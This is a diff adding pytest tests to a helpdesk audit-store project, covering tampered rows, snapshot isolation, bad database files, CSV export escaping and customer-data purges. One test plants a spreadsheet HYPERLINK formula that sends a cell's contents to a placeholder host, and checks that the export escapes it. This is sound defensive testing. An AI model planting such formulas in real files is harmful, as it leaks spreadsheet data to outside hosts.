@@ -20,7 +20,7 @@ from click.testing import CliRunner
 
 from conftest import EXAMPLE_CONFIG
 from helpforce.adapters.local.testing import DeskHarness
-from helpforce.audit import parse_head, verify
+from helpforce.audit import head, parse_head, verify
 from helpforce.cli import main
 from helpforce.clock import ManualClock
 from helpforce.config import Config
@@ -558,3 +558,114 @@ def test_export_command(tmp_path: Path) -> None:
     assert again.exit_code == 1 and "--force" in again.output
     bad = runner.invoke(main, ["export", "--db", str(path), "--format", "xml", "--out", "x"])
     assert bad.exit_code == 2
+
+
+# -- tampering the store never does; reading while the daemon writes ----------------------------
+
+
+async def test_an_event_forged_with_an_id_below_1_is_reported(tmp_path: Path) -> None:
+    path = tmp_path / "hf.db"
+    await _ten_events(path)
+    conn = _raw(path)
+    conn.execute("INSERT INTO events (id, question_id, at, kind, actor, platform, data, hash) "
+                 "VALUES (-1, 1, 999.0, 'note', 'mallory', 'local', '{}', ?)", ("ab" * 32,))
+    conn.close()
+    verdict = await _verify(path)
+    assert not verdict.ok
+    assert any(p.event_id == -1 and "below 1" in p.what for p in verdict.problems)
+
+
+@pytest.mark.parametrize("column, value", [
+    ("question_id", 1.5), ("question_id", b"1"), ("at", b"1001.0"), ("actor", b"mallory"),
+])
+async def test_a_value_of_another_type_is_a_malformed_row(
+    tmp_path: Path, column: str, value: object
+) -> None:
+    # 1.5 or a blob '1' hash like question 1, yet read as another question (or none)
+    path = tmp_path / "hf.db"
+    await _ten_events(path)
+    conn = _raw(path)
+    conn.execute(f"UPDATE events SET {column} = ? WHERE id = 3", (value,))
+    conn.close()
+    verdict = await _verify(path)
+    assert any(p.event_id == 3 and "malformed row" in p.what and column in p.what
+               for p in verdict.problems), verdict.problems
+
+
+async def test_reads_in_a_snapshot_do_not_see_what_is_committed_meanwhile(
+    tmp_path: Path,
+) -> None:
+    path = tmp_path / "hf.db"
+    await _ten_events(path)
+    async with Store(path) as writer, Store(path, readonly=True) as reader:
+        async with reader.snapshot():
+            before = await reader.fetchall("SELECT COUNT(*) FROM events")
+            await _write(writer, _event("resolved", 1, "jdiaz", at=2000.0))
+            during = await reader.fetchall("SELECT COUNT(*) FROM events")
+            assert (await head(reader)) == (10, committed_hash(path, 10))
+        after = await reader.fetchall("SELECT COUNT(*) FROM events")
+    assert before[0][0] == during[0][0] == 10 and after[0][0] == 11
+
+
+def committed_hash(path: Path, event_id: int) -> str:
+    """The hash a committed event has (read straight from the file)."""
+    conn = sqlite3.connect(path)
+    try:
+        return str(conn.execute("SELECT hash FROM events WHERE id = ?", (event_id,))
+                   .fetchone()[0])
+    finally:
+        conn.close()
+
+
+def test_a_file_that_is_not_a_database_is_a_clear_error(tmp_path: Path) -> None:
+    garbage = tmp_path / "notes.db"
+    garbage.write_text("not a database, just notes\n" * 100)
+    runner = CliRunner()
+    for args in (["audit", "verify"],
+                 ["export", "--format", "csv", "--out", str(tmp_path / "out")]):
+        result = runner.invoke(main, [*args, "--db", str(garbage)])
+        assert result.exit_code == 1, result.output
+        assert f"{garbage}: not a helpforce database" in result.output
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_stays_text(tmp_path: Path) -> None:
+    import asyncio
+
+    path = tmp_path / "hf.db"
+    asyncio.run(_ten_events(path))
+    conn = sqlite3.connect(path)
+    conn.execute("UPDATE questions SET customer_handle = ?",
+                 ('=HYPERLINK("http://example.invalid/?"&A1,"click")',))
+    conn.commit()
+    conn.close()
+    result = CliRunner().invoke(main, ["export", "--db", str(path), "--format", "csv",
+                                       "--out", str(tmp_path / "out")])
+    assert result.exit_code == 0, result.output
+    with (tmp_path / "out" / "questions.csv").open(newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert rows[0]["customer_handle"] == '\'=HYPERLINK("http://example.invalid/?"&A1,"click")'
+
+
+async def test_what_a_customer_adds_to_a_purged_question_goes_with_the_next_purge(
+    tmp_path: Path,
+) -> None:
+    # #1 is purged; later the customer edits an old message (an `ignored` event naming them);
+    # the next purge whose cutoff that is older than removes them from it too, and the chain
+    # still verifies (the first purge did not record it: it came after)
+    path = tmp_path / "hf.db"
+    await _ten_events(path)
+    async with Store(path) as store:
+        first = await purge(store, older_than=100.0, now=2000.0)
+        assert first.questions == [1]
+        await _write(store, _event("ignored", 1, "local:cust1", at=2500.0, message_id="m1"))
+        early = await purge(store, older_than=100.0, now=2550.0)  # cutoff 2450: too young
+        assert early.events == 0
+        second = await purge(store, older_than=100.0, now=3000.0)
+    assert second.questions == [] and second.events == 1
+    conn = sqlite3.connect(path)
+    actors = [r[0] for r in conn.execute("SELECT actor FROM events WHERE kind = 'ignored'")]
+    conn.close()
+    assert actors and "cust1" not in str(actors)
+    verdict = await _verify(path)
+    assert verdict.ok, [str(p) for p in verdict.problems]
+    assert verdict.purges == 2
